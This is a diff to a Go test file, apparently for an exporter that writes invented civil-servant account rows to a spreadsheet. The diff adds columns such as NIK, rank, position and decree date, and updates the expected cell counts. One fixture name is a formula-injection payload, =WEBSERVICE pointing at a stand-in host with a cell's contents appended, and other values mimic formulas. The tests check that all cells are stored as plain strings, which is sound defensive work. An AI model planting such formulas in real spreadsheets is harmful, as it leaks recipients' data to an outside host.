@@ -27,7 +27,8 @@ func nip(i int) string { return fmt.Sprintf("19860926201505100%d", i) }
 // accounts gives rows as they are issued; passwords are plainly invented.
 func accounts() (rows []SheetRow) {
 	for i, name := range []string{"I Wayan Contoh, S.T.", `=WEBSERVICE("http://x.example/"&F2)`, "Ni Luh Contoh"} {
-		r := SheetRow{Nama: name, NIP: nip(i), Email: fmt.Sprintf("m%d@gov.example", i), UserID: fmt.Sprintf("contoh.%d", i), Password: sec(fmt.Sprintf("Contoh#aman%d", i+2))}
+		r := SheetRow{Nama: name, NIP: nip(i), NIK: fmt.Sprintf("910101010190000%d", i), Golongan: "III/c", Pangkat: "Penata",
+			Jabatan: "Pengelola", HP: "0812", SK: "027/12/2026", SKDate: "5 Januari 2026", Email: fmt.Sprintf("m%d@gov.example", i), UserID: fmt.Sprintf("contoh.%d", i), Password: sec(fmt.Sprintf("Contoh#aman%d", i+2))}
 		rows = append(rows, r)
 	}
 	return rows
@@ -67,7 +68,7 @@ func TestSheetOpens(t *testing.T) {
 	}
 	got := cellsOf(t, b, phrase)
 	for i, r := range accounts() {
-		want := []string{fmt.Sprint(i + 1), r.Nama, r.NIP, r.Email, r.UserID, r.Password.Reveal()}
+		want := []string{fmt.Sprint(i + 1), r.Nama, r.NIP, r.NIK, "III/c", "Penata", "Pengelola", "0812", r.Email, "027/12/2026", "5 Januari 2026", r.UserID, r.Password.Reveal()}
 		if !slices.Equal(got[i], want) {
 			t.Errorf("row %d: %d cells, other than were written", i+1, len(got[i]))
 		}
@@ -95,7 +96,7 @@ func TestSheetHoldsStringsOnly(t *testing.T) {
 			t.Fatal(err)
 		}
 		if strings.HasPrefix(p.Name, "xl/worksheets/") {
-			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) || bytes.Count(raw, []byte(`t="s"`)) < 6*4 {
+			if bytes.Contains(raw, []byte("<f>")) || bytes.Contains(raw, []byte("<f ")) || bytes.Count(raw, []byte(`t="s"`)) < 13*4 {
 				t.Errorf("%s: a cell is no string", p.Name)
 			}
 		}
@@ -104,7 +105,7 @@ func TestSheetHoldsStringsOnly(t *testing.T) {
 		}
 	}
 	line := cellsOf(t, b, secret.Secret{})[3]
-	if line[1] != "+1+1  SETUJU" || line[2] != "@SUM(A1)" || line[4] != "=1" || line[5] != kept {
+	if line[1] != "+1+1  SETUJU" || line[2] != "@SUM(A1)" || line[11] != "=1" || line[12] != kept {
 		t.Errorf("%v", line)
 	}
 }
